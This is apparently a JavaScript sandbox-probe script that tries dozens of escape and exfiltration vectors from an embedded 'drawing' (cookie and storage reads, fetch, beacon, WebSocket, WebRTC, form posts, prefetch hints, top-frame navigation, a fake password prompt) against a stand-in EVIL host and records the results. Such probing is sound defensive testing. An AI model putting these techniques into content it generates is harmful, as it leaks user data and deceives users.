// What a drawing may try, each attack by its name; what it comes to is in `outcomes`. EVIL and HOME are defined before.

window.outcomes = {};
const tried = async (name, attack) => {
  const patience = new Promise((resolve) => setTimeout(resolve, 2000, "nothing"));
  try { outcomes[name] = String(await Promise.race([attack(), patience])); }
  catch (error) { outcomes[name] = error.name; }
};
const put = (tag, more) => (document.body ?? document.documentElement).appendChild(Object.assign(document.createElement(tag), more));
const said = (thing) => new Promise((resolve) => { thing.onload = () => resolve("LOADED"); thing.onerror = () => resolve("refused"); });
const link = (rel, more = {}) => put("link", { rel, href: `${EVIL}/${rel}`, ...more });
(async () => {
  await Promise.all([
    tried("cookie", () => document.cookie),
    tried("storage", () => localStorage.length),
    tried("session storage", () => sessionStorage.length),
    tried("database", () => new Promise((yes, no) => { const o = indexedDB.open("x"); o.onsuccess = () => yes("OPEN"); o.onerror = () => yes("refused"); })),
    tried("cache", () => caches.keys()),
    tried("a frame of its own site", () => { put("iframe", { src: `${HOME}/healthz` }); }),
    tried("the chat", () => top.document.title),
    tried("origin", () => origin),
    tried("top", () => { top.location = `${EVIL}/top`; return "went on"; }),
    tried("parent", () => { parent.location = `${EVIL}/parent`; return "went on"; }),
    tried("fetch", () => fetch(`${EVIL}/fetch`, { mode: "no-cors" })),
    tried("own server", () => fetch(`${HOME}/api/v1/me/`, { mode: "no-cors", credentials: "include" })),
    tried("beacon", () => navigator.sendBeacon(`${EVIL}/beacon`, "x")),
    tried("image", () => { const i = new Image(); i.src = `${EVIL}/image`; return said(i); }),
    tried("script", () => said(put("script", { src: `${EVIL}/script` }))),
    tried("style", () => said(link("stylesheet"))),
    tried("socket", () => new Promise((yes) => { const s = new WebSocket(EVIL.replace("http", "ws")); s.onopen = () => yes("OPEN"); s.onerror = () => yes("refused"); })),
    tried("worker", () => new Promise((yes) => { const w = new Worker(URL.createObjectURL(new Blob([`fetch("${EVIL}/w")`]))); w.onerror = () => yes("refused"); })),
    tried("window", () => open(`${EVIL}/window`)),
    tried("dialog", () => prompt("Password?")),
    tried("camera", () => document.featurePolicy.allowsFeature("camera")),
    tried("position", () => new Promise((yes) => navigator.geolocation.getCurrentPosition(() => yes("KNOWN"), () => yes("refused")))),
    tried("frame", () => { put("iframe", { src: `${EVIL}/frame` }); }),
    tried("form", () => { const f = put("form", { action: `${EVIL}/form`, method: "post" }); f.submit(); }),
    tried("download", () => { put("a", { href: "data:text/plain,x", download: "x.txt" }).click(); }),
    tried("ping", () => { put("a", { href: "#x", ping: `${EVIL}/ping` }).click(); }),
    tried("hints", () => { ["prefetch", "preconnect", "dns-prefetch", "prerender", "modulepreload"].forEach((rel) => link(rel)); }),
    tried("speculation", () => { put("script", { type: "speculationrules", textContent: JSON.stringify({ prefetch: [{ source: "list", urls: [`${EVIL}/s`] }] }) }); }),
    tried("background", () => { put("style", { textContent: `body { background: url(${EVIL}/background) }` }); }),
    tried("peer", async () => {
      const iceServers = [{ urls: EVIL.replace("http://", "stun:") }, { urls: EVIL.replace("http://", "turn:") + "?transport=tcp", username: "x", credential: "y" }];
      const peer = new RTCPeerConnection({ iceServers });
      peer.createDataChannel("x");
      await peer.setLocalDescription(await peer.createOffer());
      await new Promise((yes) => { peer.onicegatheringstatechange = () => peer.iceGatheringState === "complete" && yes(); });
    }),
  ]);
  outcomes.done = "yes";
})();
